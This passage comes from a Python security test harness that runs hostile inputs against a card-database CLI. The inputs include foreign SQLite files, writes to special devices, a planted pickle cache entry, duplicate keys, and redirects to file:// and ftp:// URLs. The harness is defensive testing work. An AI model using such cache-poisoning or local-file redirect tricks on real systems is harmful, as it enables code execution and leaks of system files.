                f"full-disk-{command[0]}",
                "read-only",
                (seed, ("collection", *command)),
                full_disk=True,
                verdict=succeeds,
            )
        )
        add(
            Attack(
                f"read-only-{command[0]}",
                "read-only",
                (seed, ("collection", *command)),
                before_last=lock_down("collection.sqlite3"),
                read_only=True,
                verdict=succeeds,
            )
        )

    # Files that are not ours: foreign SQLite files.
    def foreign(user_version: int, application_id: int) -> Callable[[Path], None]:
        def setup(work: Path) -> None:
            sqlite_file(
                work / "other.sqlite3", user_version=user_version, application_id=application_id
            )
            (work / ".other").write_bytes((work / "other.sqlite3").read_bytes())

        return setup

    for label, version, app in (("other-program", 0, 0), ("newer-lalcheck", 99, 0x4C414C43)):
        for command in (("list",), ("add", KNOWN)):
            add(
                Attack(
                    f"{label}-{command[0]}",
                    "foreign",
                    (("collection", *command, "--collection", "{other.sqlite3}"),),
                    setup=foreign(version, app),
                    verdict=lambda runs, work: (
                        refused()(runs, work)
                        or unchanged("other.sqlite3", (work / ".other").read_bytes())(runs, work)
                    ),
                )
            )
    add(
        Attack(
            "zero-byte-collection",
            "foreign",
            (("collection", "add", KNOWN, "--collection", "{empty.sqlite3}"),),
            {"empty.sqlite3": b""},
            verdict=both(refused("empty"), unchanged("empty.sqlite3", b"")),
        )
    )

    # Files that are not ours: outputs that are not regular files.
    export = ("export", good, "--force", "-o")
    add(
        Attack(
            "output-null-device",
            "outputs",
            ((*export, "{null}"),),
            setup=char_device("null", 3),
            verdict=still_special("null", stat.S_ISCHR),
        )
    )
    add(
        Attack(
            "output-full-device",
            "outputs",
            (
                (
                    "db",
                    "import",
                    str(source / "examples" / "cardlist.csv"),
                    "--skip-bad",
                    "-o",
                    "{full}",
                ),
            ),
            setup=char_device("full", 7),
            verdict=still_special("full", stat.S_ISCHR),
        )
    )
    add(
        Attack(
            "output-fifo",
            "outputs",
            ((*export, "{pipe}"),),
            setup=make_fifo("pipe"),
            verdict=still_special("pipe", stat.S_ISFIFO),
        )
    )
    add(
        Attack(
            "output-stdout-link",
            "outputs",
            ((*export, "{stdout}"),),
            setup=symlink("stdout", "/proc/self/fd/1"),
            verdict=still_special("stdout", stat.S_ISLNK),
        )
    )
    add(
        Attack(
            "output-dash",
            "outputs",
            (seed, ("collection", "export", "-o", "-")),
            verdict=lambda runs, work: (
                "wrote a file named -"
                if (work / "-").exists()
                else (None if KNOWN in last(runs).stdout else "no CSV on standard output")
            ),
        )
    )

    # Files that are not ours: the parse cache.
    add(
        Attack(
            "pickle-cache-entry",
            "cache",
            (("db", "info"),),
            setup=plant_pickle(source),
            verdict=both(no_marker, succeeds),
        )
    )

    # Duplicate keys.
    def dup_card(text: str) -> str:
        line = "    name: Morning Bell Kazuha\n"
        return text.replace(line, line + "    name: Evil Twin\n", 1)

    add(
        Attack(
            "duplicate-key-database-yaml",
            "duplicates",
            (("db", "validate", "{db.yaml}"),),
            {"db.yaml": dup_card((source / "data" / "cards.yaml").read_text("utf-8"))},
            verdict=refused("twice"),
        )
    )
    add(
        Attack(
            "duplicate-key-database-json",
            "duplicates",
            (("db", "validate", "{db.json}"),),
            {
                "db.json": db_json(source, lambda d: None).replace(
                    '"number": "BT01/001",', '"number": "BT01/001", "number": "BT01/999",', 1
                )
            },
            verdict=refused("twice"),
        )
    )
    add(
        Attack(
            "duplicate-key-regulation",
            "duplicates",
            (("check", "--regulation", "{reg.yaml}", good),),
            {"reg.yaml": regulation(source) + "main_size: 40\n"},
            verdict=refused("twice"),
        )
    )

    # Download errors that say what happened.
    add(
        Attack(
            "redirect-loop",
            "download",
            (("db", "fetch", "{url}/loop.yaml"),),
            verdict=refused("redirect"),
        )
    )
    add(
        Attack(
            "redirect-to-file",
            "download",
            (("db", "fetch", "{url}/to-file.yaml"),),
            verdict=both(refused("file://"), never_says("root:")),
        )
    )
    add(
        Attack(
            "redirect-to-ftp",
            "download",
            (("db", "fetch", "{url}/to-ftp.yaml"),),
            verdict=refused("ftp://"),
        )
    )
    add(
        Attack(
            "read-timeout",
            "download",
            (("db", "fetch", "{url}/stall.yaml", "--timeout", "1", "--retries", "0"),),
            verdict=both(refused("timeout"), never_says("broke off")),
        )
    )
    add(
        Attack(
            "db-url-fallback-says-why",
            "download",
            (("db", "fetch", "{url}/flaky.yaml"), ("db", "info", "--db", "{url}/flaky.yaml")),
            limit_s=15,
            verdict=both(succeeds, says("cached copy", codes=(0,)), never_says("broke off")),
        )
    )

    # Unicode forms of card references.
    add(Attack("nfd-card-name", "unicode", (("cards", "show", nfd),), verdict=succeeds))
    add(
        Attack(
            "full-width-card-number",
            "unicode",
            (("cards", "show", "ＢＴ０１／００８"),),
            verdict=succeeds,
        )
    )
    return found


def serve_files(source: Path) -> None:
    Hostile.served = {
        "bigint.json": db_json(source, first_card(power=777777), **{"777777": HUGE}).encode(),
        "flaky.yaml": (source / "data" / "cards.yaml").read_bytes(),
    }


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--source", type=Path, default=ROOT, help="lalcheck checkout to attack")
    parser.add_argument("--only", help="run only the attacks whose name contains this")
    parser.add_argument("--verbose", action="store_true", help="show every outcome")
    options = parser.parse_args()
    source = options.source.resolve()
    serve_files(source)
    chosen = [a for a in attacks(source) if not options.only or options.only in a.name]
    help_text = run_command(
        ("db", "fetch", "--help"), Path(tempfile.gettempdir()), {"PYTHONPATH": str(source)}, 60
    ).stdout
    deadline_option = "--deadline" in help_text
    totals = {"tried": 0, "crashed": 0, "slow": 0, "unsafe": 0}
    with hostile_server() as url:
        for attack in chosen:
            Hostile.hits.clear()
            outcome = replay(attack, source, url, deadline_option)
            totals["tried"] += 1
            marks = []
            for kind in ("crashed", "slow", "unsafe"):
                reason = getattr(outcome, kind)
                if reason:
                    totals[kind] += 1
                    marks.append(f"{kind}: {reason}")
            seconds = sum(run.seconds for run in outcome.runs)
            memory = max((run.max_rss_mb for run in outcome.runs), default=0.0)
            if marks or options.verbose:
                print(
                    f"{attack.group:<10} {attack.name:<34} {seconds:6.1f}s {memory:5.0f}MB  "
                    + ("; ".join(marks) or "ok"),
                    flush=True,
                )
    print(
        f"{totals['tried']} tried, {totals['crashed']} crashed, {totals['slow']} slow, "
        f"{totals['unsafe']} unsafe"
    )


if __name__ == "__main__":
    main()
